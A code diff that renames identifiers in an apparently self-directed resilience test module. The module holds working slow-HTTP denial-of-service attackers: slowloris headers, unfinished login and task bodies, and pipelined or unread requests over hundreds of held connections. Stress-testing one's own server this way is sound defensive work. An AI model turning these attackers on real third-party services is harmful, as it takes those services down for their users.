@@ -1,9 +1,9 @@
 import { randomUUID } from 'node:crypto'
 import { connect, type Socket } from 'node:net'
-import { type Attack, type Attacker, type Target, wasWorkedOn } from './target.ts'
+import { type Attack, type Attacker, type Target, wasProcessed } from './target.ts'
 
-/** A TCP connection that speaks HTTP by hand and reads only when told to. */
-function openLine({ url }: Target): Promise<Socket> {
+/** A TCP connection that speaks HTTP by hand and reads only on request. */
+function openConnection({ url }: Target): Promise<Socket> {
   const { hostname, port } = new URL(url)
   return new Promise((resolve, reject) => {
     const socket = connect(Number(port), hostname)
@@ -21,63 +21,71 @@ const heldMs = 200
 const headLength = 'HTTP/1.1 200'.length
 
 /**
- * Opens lines that are closed by the server, too, anew: an attack goes on. A line was taken in when it is still open after
- * a moment; where it asks for something, when that is being answered, of which only the first bytes are read.
+ * Opens connections, and opens those again that the server closes: an attack goes on. A connection was accepted when it is
+ * still open after a moment; one with a request, when that is being answered, and only the first bytes are read.
  */
-async function holdLines(
+async function holdConnections(
   target: Target,
   count: number,
-  use: (line: Socket) => void,
+  use: (connection: Socket) => void,
   { answered = false } = {},
 ): Promise<Attack> {
-  const lines = new Set<Socket>()
+  const connections = new Set<Socket>()
   let stopped = false
   let accepted = 0
-  const watch = (line: Socket) => {
+  const watch = (connection: Socket) => {
     if (answered)
-      line.once('readable', () => wasWorkedOn(Number(String(line.read(headLength)).slice(-3))) && accepted++)
-    else setTimeout(() => line.destroyed || accepted++, heldMs)
+      connection.once(
+        'readable',
+        () => wasProcessed(Number(String(connection.read(headLength)).slice(-3))) && accepted++,
+      )
+    else setTimeout(() => connection.destroyed || accepted++, heldMs)
   }
   const add = async () => {
     if (stopped) return
-    const line = await openLine(target).catch(() => null)
-    if (!line) return
-    lines.add(line)
-    line.once('close', () => {
-      lines.delete(line)
+    const connection = await openConnection(target).catch(() => null)
+    if (!connection) return
+    connections.add(connection)
+    connection.once('close', () => {
+      connections.delete(connection)
       if (!stopped) setTimeout(() => void add(), 50)
     })
-    watch(line)
-    use(line)
+    watch(connection)
+    use(connection)
   }
   await Promise.all(Array.from({ length: count }, add))
   return {
     accepted: () => accepted,
     stop: async () => {
       stopped = true
-      for (const line of lines) line.destroy()
+      for (const connection of connections) connection.destroy()
     },
   }
 }
 
-/** A hundred anonymous connections send as many requests in advance as one may, for the page's files, and read no answers. */
+/** A hundred anonymous connections pipeline as many requests as allowed, for the page's files, and read no answers. */
 export const pipelinedRequests: Attacker = target =>
-  holdLines(target, 100, line => line.write(head('/').repeat(16)), { answered: true })
+  holdConnections(target, 100, connection => connection.write(head('/').repeat(16)), { answered: true })
 
 /** Sixty connections of one account ask for its longest list and read none of the answers. */
 export const unreadLists: Attacker = target =>
-  holdLines(target, 60, line => line.write(head('/api/v1/tasks?category=long&page_size=100', target.token)), {
-    answered: true,
-  })
+  holdConnections(
+    target,
+    60,
+    connection => connection.write(head('/api/v1/tasks?category=long&page_size=100', target.token)),
+    {
+      answered: true,
+    },
+  )
 
 /** Five hundred connections send one byte of a request's head every second. */
 export const slowHeads: Attacker = async target => {
   const timers = new Set<NodeJS.Timeout>()
-  const attack = await holdLines(target, 500, line => {
-    line.write('GET / HTTP/1.1\r\nX-Slow: ')
-    const timer = setInterval(() => line.write('x'), 1_000)
+  const attack = await holdConnections(target, 500, connection => {
+    connection.write('GET / HTTP/1.1\r\nX-Slow: ')
+    const timer = setInterval(() => connection.write('x'), 1_000)
     timers.add(timer)
-    line.once('close', () => clearInterval(timer))
+    connection.once('close', () => clearInterval(timer))
   })
   return {
     ...attack,
@@ -88,22 +96,22 @@ export const slowHeads: Attacker = async target => {
   }
 }
 
-/** Four hundred anonymous connections send almost as much of a sign-in as one may, and never the end of it. */
+/** Four hundred anonymous connections send almost as much of a sign-in as allowed, and never the end of it. */
 export const unfinishedBodies: Attacker = target =>
-  holdLines(target, 400, line => {
-    line.write(
+  holdConnections(target, 400, connection => {
+    connection.write(
       'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 65000\r\n\r\n',
     )
-    line.write(Buffer.alloc(64_000, 0x20))
+    connection.write(Buffer.alloc(64_000, 0x20))
   })
 
-/** Ninety connections of three accounts announce a task, of which nothing comes. */
+/** Ninety connections of three accounts announce a task and send nothing of it. */
 export const slowBodies: Attacker = async target => {
   const tokens = [target.token, await register(target), await register(target)]
   let nth = 0
-  return holdLines(target, 90, line => {
+  return holdConnections(target, 90, connection => {
     const token = tokens[nth++ % tokens.length]
-    line.write(
+    connection.write(
       `POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: 70000\r\n\r\n`,
     )
   })
